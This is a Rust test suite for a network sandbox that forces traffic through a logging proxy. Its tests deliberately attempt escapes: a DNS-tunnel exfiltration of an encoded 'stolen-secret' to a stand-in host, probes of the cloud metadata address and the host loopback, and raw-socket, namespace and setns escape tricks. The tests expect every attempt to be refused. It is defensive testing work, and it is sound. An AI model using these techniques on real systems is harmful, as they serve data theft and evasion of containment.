//! Whatever a program does to reach the network, it reaches the proxy or nothing, and every attempt can be read in the log.

use std::net::{TcpListener, UdpSocket};
use std::time::Duration;

use crate::harness::{Exeat, Upstream};

/// Asks a name server for a record and prints the answer's code and how many records it has.
const ASK: &str = "
import socket, struct
def ask(server, name, kind, tcp=False):
    question = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0)
    question += b''.join(bytes([len(label)]) + label.encode() for label in name.split('.')) + b'\\0'
    question += struct.pack('>HH', kind, 1)
    if tcp:
        stream = socket.create_connection((server, 53), 5)
        stream.sendall(struct.pack('>H', len(question)) + question)
        answer = stream.recv(65536)[2:]
    else:
        family = socket.AF_INET6 if ':' in server else socket.AF_INET
        stream = socket.socket(family, socket.SOCK_DGRAM)
        stream.settimeout(5)
        stream.sendto(question, (server, 53))
        answer = stream.recv(65536)
    number, flags, _, answers, _, _ = struct.unpack('>HHHHHH', answer[:12])
    assert number == 7
    return flags & 15, answers
";

#[test]
fn every_port_reaches_the_proxy() {
    let upstream = Upstream::start();
    let exeat = Exeat::new().allow("api.example.com", &upstream);
    let run = exeat.sh(
        "for port in 1 22 80 8443 9418 65535; do curl -sS -k -o /dev/null -w '%{http_code} ' https://api.example.com:$port/; done",
    );
    assert_eq!(run.ok().stdout, "403 ".repeat(6));
    let log = exeat.log();
    let to: Vec<&str> = log.refusals().iter().map(|refused| refused.to.as_str()).collect();
    assert_eq!(to, [1, 22, 80, 8443, 9418, 65535].map(|port| format!("api.example.com:{port}")));
    upstream.assert_untouched();
}

#[test]
fn a_protocol_that_is_neither_tls_nor_http_is_refused_and_logged() {
    let exeat = Exeat::new().rule("[[allow]]\nto = \"git.example.com:22\"");
    let run = exeat.python(
        "import socket
stream = socket.create_connection(('git.example.com', 22), 5)
stream.sendall(b'SSH-2.0-OpenSSH_9.2\\r\\n')
print(stream.recv(100))",
    );
    assert_eq!(run.code, Some(if run.stderr.contains("Reset") { 1 } else { 0 }), "{run:#?}");
    assert_eq!(run.log.refused_kinds(), ["not-http"]);
    assert_eq!(run.log.refusals()[0].to, "git.example.com:22");
}

#[test]
fn literal_addresses_go_nowhere_that_no_rule_lists() {
    let listener = TcpListener::bind("0.0.0.0:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let addresses = [
        "8.8.8.8".to_owned(),
        "169.254.169.254".to_owned(),
        "10.0.0.1".to_owned(),
        "0.0.0.0".to_owned(),
        "255.255.255.254".to_owned(),
        "[2001:db8::1]".to_owned(),
        "[::ffff:8.8.8.8]".to_owned(),
        "[64:ff9b::808:808]".to_owned(),
        "[fe80::1]".to_owned(),
    ];
    let exeat = Exeat::new();
    for address in addresses {
        let run = exeat.run(&["curl", "-sgk", "-m", "5", "-w", "%{http_code}", &format!("https://{address}:{port}/")]);
        assert!(run.code != Some(0) || run.stdout.ends_with("403"), "{address}: {run:#?}");
    }
    let log = exeat.log();
    assert!(log.refusals().iter().any(|refused| refused.to == format!("[2001:db8::1]:{port}")), "{log:#?}");
    assert!(log.refusals().iter().all(|refused| refused.kind == "address-not-listed"), "{log:#?}");
    assert!(listener.accept().is_err(), "something reached a listener of the machine");
}

#[test]
fn a_literal_address_that_a_rule_lists_is_its_own_destination() {
    let upstream = Upstream::start();
    let exeat = Exeat::new().rule(&format!("[[allow]]\nto = \"{}\"", upstream.dial()));
    // Inside, 127.0.0.1 is the sandbox's own: it is not the machine's, whatever a rule says.
    let run = exeat.run(&["curl", "-sSk", &format!("https://{}/echo", upstream.dial())]);
    assert_ne!(run.code, Some(0), "{run:#?}");
    upstream.assert_untouched();
    let listed = Exeat::new().allow("192.0.2.7", &upstream);
    let run = listed.run(&["curl", "-sS", "https://192.0.2.7/echo"]).ok();
    // The upstream's certificate is not for that address: verified, and refused.
    assert!(run.stdout.contains("urn:exeat:refusal:upstream-tls"), "{run:#?}");
}

#[test]
fn the_machines_own_loopback_is_out_of_reach_and_the_sandboxs_own_works() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let run = Exeat::new().sh(&format!(
        "curl -s -m 5 http://127.0.0.1:{port}/; echo $?
         curl -s -m 5 http://localhost:{port}/; echo $?
         python3 -m http.server 8000 --bind 127.0.0.1 2>/dev/null & server=$!
         for n in 1 2 3 4 5 6 7 8 9 10; do curl -s -o /dev/null -w '%{{http_code}}\\n' http://localhost:8000/ && break; sleep 0.3; done
         kill $server"
    ));
    assert_eq!(run.stdout.lines().filter(|line| *line == "7").count().min(2), 2, "{run:#?}");
    assert!(run.stdout.ends_with("200\n"), "{run:#?}");
    assert!(run.log.refusals().is_empty(), "the sandbox's own loopback is nobody's business: {run:#?}");
    assert!(listener.accept().is_err());
}

#[test]
fn udp_is_refused_at_once() {
    let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
    socket.set_nonblocking(true).unwrap();
    let port = socket.local_addr().unwrap().port();
    let run = Exeat::new().python(&format!(
        "import socket, time
for address in ('8.8.8.8', '10.0.0.1', '198.18.0.9', '2001:db8::1'):
    stream = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_DGRAM)
    stream.settimeout(5)
    begun = time.monotonic()
    try:
        stream.connect((address, {port}))
        stream.send(b'hello')
        stream.recv(10)
        print('answered')
    except (ConnectionRefusedError, PermissionError, OSError) as error:
        print(type(error).__name__, 'late' if time.monotonic() - begun > 1 else 'at once')"
    ));
    let run = run.ok();
    assert_eq!(run.stdout.lines().filter(|line| line.ends_with("at once")).count(), 4, "{run:#?}");
    assert!(!run.stdout.contains("Timeout"), "{run:#?}");
    assert!(socket.recv(&mut [0; 10]).is_err(), "a packet left the sandbox");
}

#[test]
fn a_dns_tunnel_finds_no_data_and_is_in_the_log() {
    let run = Exeat::new().python(&format!(
        "{ASK}
for server in ('198.18.0.1', '8.8.8.8', '10.255.255.53', '2001:db8::53'):
    print(server, ask(server, 'c3RvbGVuLXNlY3JldA.tunnel.example.net', 16))
print('over TCP', ask('8.8.4.4', 'd29ybGQ.tunnel.example.net', 16, tcp=True))"
    ));
    let run = run.ok();
    assert_eq!(run.stdout.lines().filter(|line| line.ends_with("(0, 0)")).count(), 5, "{run:#?}");
    let names = run.log.names();
    assert!(
        names.contains(&("c3RvbGVuLXNlY3JldA.tunnel.example.net".to_ascii_lowercase().as_str(), "TXT")),
        "{names:?}"
    );
    assert!(names.iter().any(|(name, _)| name.eq_ignore_ascii_case("d29ybGQ.tunnel.example.net")), "{names:?}");
}

#[test]
fn a_names_only_address_is_one_of_the_name_servers_own() {
    let run = Exeat::new().python(&format!(
        "{ASK}
print(ask('198.18.0.1', 'api.example.com', 1), ask('198.18.0.1', 'api.example.com', 28), ask('198.18.0.1', 'api.example.com', 65))
addresses = [socket.gethostbyname(name) for name in ('api.example.com', 'www.example.com', 'API.example.com')]
print(addresses[0] == addresses[2], addresses[0] != addresses[1], addresses[0])"
    ));
    let run = run.ok();
    assert!(run.stdout.starts_with("(0, 1) (0, 0) (0, 0)\nTrue True 198.1"), "{run:#?}");
}

#[test]
fn ipv6_is_not_a_way_around() {
    let upstream = Upstream::start();
    let exeat = Exeat::new().allow("api.example.com", &upstream);
    let run = exeat.sh(
        "curl -sS -6 -m 5 https://api.example.com/; curl -sSgk -m 5 -w '%{http_code}' 'https://[2606:4700::1111]/'",
    );
    let run = run.ok();
    assert!(run.stdout.ends_with("403"), "{run:#?}");
    assert_eq!(run.log.refused_kinds(), ["address-not-listed"]);
    upstream.assert_untouched();
}

#[test]
fn neither_an_empty_environment_nor_proxy_variables_change_anything() {
    let upstream = Upstream::start();
    let exeat = Exeat::new().allow("api.example.com", &upstream);
    let run = exeat.sh("env -i /usr/bin/curl -sS -o /dev/null -w '%{http_code} ' https://api.example.com/echo
         env -i /usr/bin/curl -sS -o /dev/null -w '%{http_code} ' https://www.example.com/
         unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy no_proxy NO_PROXY
         curl -sS -o /dev/null -w '%{http_code} ' https://www.example.com/
         no_proxy='*' curl -sS -o /dev/null -w '%{http_code} ' https://www.example.com/");
    assert_eq!(run.ok().stdout, "200 403 403 403 ");
    upstream.only();
}

#[test]
fn an_address_that_was_never_given_out_leads_nowhere() {
    let exeat = Exeat::new();
    let run = exeat.run(&["curl", "-sk", "-w", "%{http_code}", "https://198.19.255.1/"]).ok();
    assert!(run.stdout.ends_with("421"), "{run:#?}");
    assert_eq!(run.log.refused_kinds(), ["unknown-address"]);
}

#[test]
fn the_workers_own_listeners_are_not_there_to_be_connected_to() {
    let run = Exeat::new().python(
        "import socket
for line in open('/proc/net/tcp').readlines()[1:]:
    local, state = line.split()[1], line.split()[3]
    if state == '0A':
        stream = socket.create_connection(('127.0.0.1', int(local.split(':')[1], 16)))
        try:
            stream.sendall(b'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n')
            print(stream.recv(100))
        except OSError:
            pass",
    );
    assert!(!run.stdout.contains("HTTP"), "{run:#?}");
    assert_eq!(run.log.refused_kinds(), ["own-listener"]);
}

#[test]
fn the_only_interface_is_a_loopback_of_its_own() {
    let run = Exeat::new()
        .sh("cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '; ls /sys/class/net 2>/dev/null; true")
        .ok();
    assert!(run.stdout.lines().all(|line| line == "lo"), "{run:#?}");
}

#[test]
fn other_ways_to_a_network_are_closed() {
    // Packet, netlink-less raw, vsock and raw sockets; a new user namespace to become root in; io_uring.
    let run = Exeat::new().python(
        "import socket, ctypes, os
def tried(what, attempt):
    try:
        attempt()
        print(what, 'OPEN')
    except OSError as error:
        print(what, 'closed')
tried('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))
tried('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
tried('vsock', lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 1024)))
libc = ctypes.CDLL(None, use_errno=True)
def syscall(*arguments):
    if libc.syscall(*arguments) < 0:
        raise OSError(ctypes.get_errno(), 'refused')
tried('user namespace', lambda: syscall(272, 0x10000000))
tried('io_uring', lambda: syscall(425, 8, ctypes.create_string_buffer(120)))
tried('setns', lambda: syscall(308, os.open('/proc/1/ns/net', os.O_RDONLY), 0x40000000))",
    );
    let run = run.ok();
    assert!(!run.stdout.contains("OPEN"), "{}", run.stdout);
}

#[test]
fn the_weaker_capture_is_asked_for_by_name_and_is_in_the_log() {
    let upstream = Upstream::start();
    let exeat = Exeat::new().allow("api.example.com", &upstream).allow("api.example.com:8443", &upstream);
    let exeat = exeat.option(&["--capture-ports-only"]).limit(Duration::from_secs(40));
    let run = exeat.sh("curl -sS -o /dev/null -w '%{http_code} ' https://api.example.com/echo
         curl -sS -o /dev/null -w '%{http_code} ' https://api.example.com:8443/echo
         curl -sS -o /dev/null -w '%{http_code} ' https://www.example.com/
         curl -sk -m 5 -o /dev/null -w '%{http_code} ' https://api.example.com:9443/");
    assert_eq!(run.stdout, "200 200 403 000 ", "{run:#?}");
    let capture = &run.log.start().sandbox["capture"];
    assert_eq!(*capture, serde_json::json!({ "ports": [443, 8443] }));
    assert_eq!(Exeat::new().run(&["true"]).log.start().sandbox["capture"], "redirect");
}
